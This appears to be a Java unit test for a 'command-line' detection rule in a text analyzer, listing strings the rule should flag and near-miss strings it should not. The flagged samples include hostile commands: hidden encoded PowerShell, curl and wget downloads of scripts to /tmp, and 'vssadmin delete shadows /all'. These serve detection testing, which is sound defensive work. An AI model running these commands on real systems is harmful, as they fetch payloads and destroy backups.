package io.pagestream.analyzers.paths;

import io.pagestream.analyzers.chars.TextRuleContract;

final class CommandLineRuleTest extends TextRuleContract {
  CommandLineRuleTest() {
    super(
        "paths",
        "command-line",
        """
        «powershell.exe -nop -w hidden -enc SQBFAFgA»
        «C:\\Windows\\System32\\cmd.exe /c whoami»
        «curl -s http://192.0.2.7/x.sh»
        «/bin/bash -c id»
        «/usr/bin/wget https://a.example/x -O /tmp/x»
        «chmod +x /tmp/a»
        «rundll32.exe shell32.dll,Control_RunDLL»
        «vssadmin delete shadows /all»
        """,
        """
        powershell is
        cmd line
        curl is a tool
        bash completion
        xbash -c id
        chmod of
        python - a
        """);
  }
}
